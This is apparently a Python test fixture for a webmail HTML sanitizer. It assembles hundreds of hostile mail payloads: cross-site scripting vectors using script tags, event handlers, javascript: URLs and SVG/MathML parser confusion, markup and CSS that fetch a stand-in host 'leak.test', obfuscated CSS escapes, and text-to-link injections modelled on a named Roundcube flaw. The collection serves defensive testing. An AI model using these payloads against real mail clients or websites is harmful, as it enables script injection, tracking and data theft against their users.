"""Hostile mail, written for these tests: what has been used against webmails, one vector a line.

``{js}`` is code that shows itself if it runs, ``{url}`` an address that must never be asked for.
The classes follow what was exploited in Roundcube, Zimbra, SOGo, Horde, SnappyMail and others, and the known ways in
which markup and style sheets fetch.
"""

from __future__ import annotations

URL = "http://leak.test/x"
CANARY = "ran-canary"
JS = f"console.error('{CANARY}')"

# Markup that would run something.
SCRIPTS = [
    "<script>{js}</script>",
    "<SCRIPT SRC={url}></SCRIPT>",
    "<script/x>{js}</script>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "<script\x00>{js}</script>",
    "<img src=x onerror={js}>",
    "<img src=x onerror\x0c={js}>",
    "<img/src=x/onerror={js}>",
    '<img src="x" """><script>{js}</script>">',
    "<body onload={js}>",
    "<body onpageshow={js}>",
    "<div onmouseenter={js} style='width:1000px;height:1000px'>x</div>",
    "<details open ontoggle={js}>x</details>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}>",
    "<textarea autofocus onfocus={js}></textarea>",
    "<button autofocus onfocus={js}>x</button>",
    "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}>",
    "<marquee onstart={js}>x</marquee>",
    "<style onload={js}></style>",
    "<link rel=stylesheet href=data:, onload={js}>",
    "<iframe srcdoc='<script>{js}</script>'></iframe>",
    "<iframe src='javascript:{js}'></iframe>",
    "<object data='data:text/html,<script>{js}</script>'></object>",
    "<embed src='data:text/html,<script>{js}</script>'>",
    "<a href='javascript:{js}' autofocus>x</a>",
    "<a href='java\tscript:{js}'>x</a>",
    "<a href=' &#1; javascript:{js}'>x</a>",
    "<a href='&#x6A;avascript:{js}'>x</a>",
    "<a href='javascript&colon;{js}'>x</a>",
    "<a href='data:text/html,<script>{js}</script>'>x</a>",
    "<a href='vbscript:{js}'>x</a>",
    "<a href='feed:javascript:{js}'>x</a>",
    "<area href='javascript:{js}'>",
    "<form action='javascript:{js}'><button>x</button></form>",
    "<form><button formaction='javascript:{js}'>x</button></form>",
    "<isindex action='javascript:{js}' type=image>",
    "<math href='javascript:{js}'>x</math>",
    "<base href='javascript:{js}//'><a href='#'>x</a>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "<meta http-equiv=refresh content='0;url={url}'>",
    "<template><script>{js}</script></template>",
    "<div><template shadowrootmode=open><script>{js}</script><img src=x onerror={js}></template></div>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<xmp><p title='</xmp><img src=x onerror={js}>'>",
    "<title><p title='</title><img src=x onerror={js}>'>",
    "<textarea><p title='</textarea><img src=x onerror={js}>'>",
    "<plaintext><script>{js}</script>",
    "<listing>&lt;img src=x onerror={js}&gt;</listing>",
    "<!--><img src=x onerror={js}>-->",
    "<!--!><img src=x onerror={js}>--!>",
    "<![CDATA[<img src=x onerror={js}>]]>",
    "<?xml version='1.0'?><img src=x onerror={js}>",
    "<!DOCTYPE x [<!ENTITY y '<img src=x onerror={js}>'>]>&y;",
    "<p style='x:expression({js})'>x</p>",
    "<p style='behavior:url({url})'>x</p>",
    "<p style='-moz-binding:url({url})'>x</p>",
    "<div title='x' onanimationstart={js} style='animation:x 1s'>x</div><style>@keyframes x{{}}</style>",
    "<a name=body href=# id=cookie>x</a><form id=documentElement><input name=scrollHeight></form>",
]

# Foreign content, where parsers disagree: the roots of the zero-days in government mail.
FOREIGN = [
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><script href='{url}'/></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{js}</script></svg>#x'/></svg>",
    "<svg><use xlink:href='{url}#x'/></svg>",
    "<svg><animate attributeName='href ' values='javascript:{js}' href=#a /><a id=a><text>x</text></a></svg>",
    "<svg><a><animate attributeName=href values='javascript:{js}'/><text y=20>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to={js}></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s></svg>",
    "<svg><image href='{url}'/></svg>",
    "<svg><feImage href='{url}'/></svg>",
    "<svg><filter id=f><feImage href='{url}'/></filter><rect filter='url(#f)' width=9 height=9 /></svg>",
    "<svg><rect fill='url({url})' stroke='url({url})' width=9 height=9 /></svg>",
    "<svg><style>@import '{url}';*{{fill:url({url})}}</style></svg>",
    "<svg><foreignObject><img src=x onerror={js}></foreignObject></svg>",
    "<svg></p><style><a id='</style><img src=x onerror={js}>'>",
    "<svg><title><style><img src=x onerror={js}></style></title></svg>",
    "<svg><desc><img src=x onerror={js}></desc></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={js}&gt;'>",
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror={js}>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={js}>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror={js}></annotation-xml></math>",
    "<math><mi xlink:href='javascript:{js}'>x</mi></math>",
    "<math><maction actiontype='statusline#{url}' xlink:href='javascript:{js}'>x</maction></math>",
    "<table><svg><td><img src=x onerror={js}></td></svg></table>",
    "<svg><p><style><g title='</style><img src=x onerror={js}>'>",
    "<select><svg><style><img src=x onerror={js}></style></svg></select>",
    "<b><svg><b><style><img title='</style><img src=x onerror={js}>'>",
]

# Markup that fetches.
FETCHES = [
    "<img src='{url}'>",
    "<img src='//leak.test/x'>",
    "<img src='\n{url}'>",
    "<img src='ht\ntp://leak.test/x'>",
    "<img srcset='{url} 1x, {url} 2x'>",
    "<img src=x longdesc='{url}' lowsrc='{url}' dynsrc='{url}'>",
    "<image src='{url}'>",
    "<input type=image src='{url}'>",
    "<picture><source srcset='{url}'><img></picture>",
    "<video src='{url}' poster='{url}' autoplay></video>",
    "<video><track default src='{url}'></video>",
    "<audio src='{url}' autoplay></audio>",
    "<iframe src='{url}'></iframe>",
    "<iframe srcdoc='<img src={url}>'></iframe>",
    "<frameset><frame src='{url}'></frameset>",
    "<object data='{url}'></object>",
    "<object classid=x codebase='{url}'><param name=movie value='{url}'></object>",
    "<embed src='{url}'>",
    "<applet code=x archive='{url}'></applet>",
    "<body background='{url}'>",
    "<table background='{url}'><tr background='{url}'><td background='{url}'>x</td></tr></table>",
    "<link rel=stylesheet href='{url}'>",
    "<link rel=prefetch href='{url}'><link rel=preload as=image href='{url}'><link rel=preconnect href='{url}'>",
    "<link rel=dns-prefetch href='//leak.test'><link rel=icon href='{url}'><link rel=manifest href='{url}'>",
    "<link rel=import href='{url}'>",
    "<script src='{url}'></script>",
    "<base href='http://leak.test/'><img src=x>",
    "<a ping='{url}' href='{url}'>x</a>",
    "<form action='{url}'><input type=submit></form>",
    "<html manifest='{url}'>",
    "<bgsound src='{url}'>",
    "<portal src='{url}'></portal>",
    "<fencedframe src='{url}'></fencedframe>",
    "<meta http-equiv=Content-Security-Policy content='default-src * data: blob:; img-src *'><img src='{url}'>",
    "<meta http-equiv=refresh content='0; {url}'>",
    "<meta http-equiv=Link content='<{url}>; rel=stylesheet'>",
    "<keygen onfocus=x><command icon='{url}'>",
    "<menuitem icon='{url}'>",
    '<script type=speculationrules>{{"prefetch":[{{"urls":["{url}"]}}]}}</script>',
    '<script type=importmap>{{"imports":{{"x":"{url}"}}}}</script>',
]

# Declarations that fetch, cover up or take values from elsewhere; tried in an attribute and in a style element.
DECLARATIONS = [
    "background:url({url})",
    "background-image:url('{url}')",
    "background:#fff uRl( {url} )",
    "background:\\75 rl({url})",
    "background:u\\72l({url})",
    "background:url\\28 {url})",
    "b\\61 ckground:url({url})",
    "background/**/:/**/url({url})",
    "background:url(/**/{url})",
    "background:image({url})",
    "background:image('{url}')",
    "background-image:image-set('{url}' 1x)",
    "background-image:-webkit-image-set(url({url}) 1x)",
    "background-image:cross-fade(url({url}),url({url}),50%)",
    "background-image:-webkit-cross-fade(url({url}),url({url}),.5)",
    "background-image:element(#x)",
    "background-image:paint(x)",
    "background:linear-gradient(red,blue),url({url})",
    "list-style:url({url})",
    "list-style-image:url({url})",
    "border-image:url({url}) 30",
    "border-image-source:url({url})",
    "content:url({url})",
    "cursor:url({url}),auto",
    "filter:url({url}#x)",
    "backdrop-filter:url({url}#x)",
    "clip-path:url({url}#x)",
    "mask:url({url})",
    "mask-image:url({url})",
    "-webkit-mask-box-image:url({url})",
    "shape-outside:url({url})",
    "fill:url({url})",
    "stroke:url({url})",
    "marker-start:url({url})",
    "offset-path:url({url}#x)",
    "--x:url({url});background:var(--x)",
    "background:var(--x,url({url}))",
    "background:env(x,url({url}))",
    "background:attr(title url,url({url}))",
    "background:src('{url}')",
    "background:url({url}) !important",
    "background:red;}}*{{background:url({url})",
    "font:12px x;src:url({url})",
    "color:red</style><img src={url}>",
    "background:url(\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{url}'/></svg>\")",
    "-webkit-border-image:url({url}) 1",
    "background:url({url}",
    "background:'{url}'",
    "symbols:url({url})",
]

# Whole style sheets.
SHEETS = [
    "@import '{url}';",
    "@import url({url});",
    "@import/**/url({url})screen;",
    "@\\69mport '{url}';",
    "@imp\\6frt '{url}';",
    "x{{color:red}}@import '{url}';",
    "@import '{url}' layer(x) supports(display:grid);",
    "@font-face{{font-family:x;src:url({url})}}p{{font-family:x}}",
    "@namespace url({url});",
    "@charset 'utf-8';@import '{url}';",
    "@media all{{@import '{url}';p{{background:url({url})}}}}",
    "@media all{{@font-face{{font-family:x;src:url({url})}}p{{font-family:x}}}}",
    "@supports(display:block){{p{{background:url({url})}}}}",
    "@layer x{{p{{background:url({url})}}}}",
    "@container (width>0){{p{{background:url({url})}}}}",
    "@property --x{{syntax:'<image>';inherits:false;initial-value:url({url})}}",
    "@counter-style x{{system:cyclic;symbols:url({url})}}",
    "@keyframes x{{from{{background:url({url})}}}}p{{animation:x 1s infinite}}",
    "@document url({url}){{p{{color:red}}}}",
    "p::before{{content:url({url})}}",
    "p{{&{{background:url({url})}}}}",
    "p[title^='x']{{background:url({url})}}",
    "<!-- @import '{url}'; -->",
    "p{{background:url({url})}}/*",
    "}}p{{background:url({url})}}",
    "p{{color:red;background:\nurl({url})\n}}",
    "@impo<!-- -->rt '{url}';",
    "{{}}@import '{url}';",
    "@media x{{}}@import '{url}';",
    ":is(p,\\{url}){{background:url({url})}}",
]

# Plain text that must stay text (CVE-2023-43770 and its kin: links made out of text).
TEXTS = [
    "<img src=x onerror={js}>",
    "<script>{js}</script>",
    'http://a.test/"onmouseover="{js}',
    "http://a.test/<img src=x onerror={js}>",
    "http://a.test/?x='><img src=x onerror={js}>",
    "mailto:a@b.test?subject=<script>{js}</script>",
    'a@b.test"><svg onload={js}>',
    "javascript:{js}",
    "http://javascript:{js}@x.test",
    "[http://x.test](javascript:{js})",
    "www.x.test/\u2028<img src=x onerror={js}>",
    "&lt;img src=x onerror={js}&gt;",
    "> <img src=x onerror={js}>",
    ">>>>>>>>>>>>>><script>{js}</script>",
    "http://x.test/##str_replacement_0##<script>{js}</script>",
]


def _filled(payloads: list[str]) -> list[str]:
    return [payload.format(js=JS, url=URL) for payload in payloads]


def running_payloads() -> list[str]:
    """The vectors that would run something."""
    return [*_filled(SCRIPTS), *_filled(FOREIGN)]


def html_payloads() -> list[str]:
    """Every vector as HTML."""
    declarations = _filled(DECLARATIONS)
    sheets = _filled(SHEETS)
    return [
        *_filled(SCRIPTS),
        *_filled(FOREIGN),
        *_filled(FETCHES),
        *(f"<p title=\"{URL}\" style='{each}'>x</p>" for each in declarations if "'" not in each),
        *(f'<p title="{URL}" style="{each}">x</p>' for each in declarations if '"' not in each),
        *(f"<style>p{{{each}}}</style><p title='{URL}'>x</p>" for each in declarations),
        *(f"<style>{each}</style><p title=x>x</p>" for each in sheets),
        *(f"<head><style type=text/css><!--\n{each}\n--></style></head><body><p>x</p>" for each in sheets),
    ]


def text_payloads() -> list[str]:
    return _filled(TEXTS)
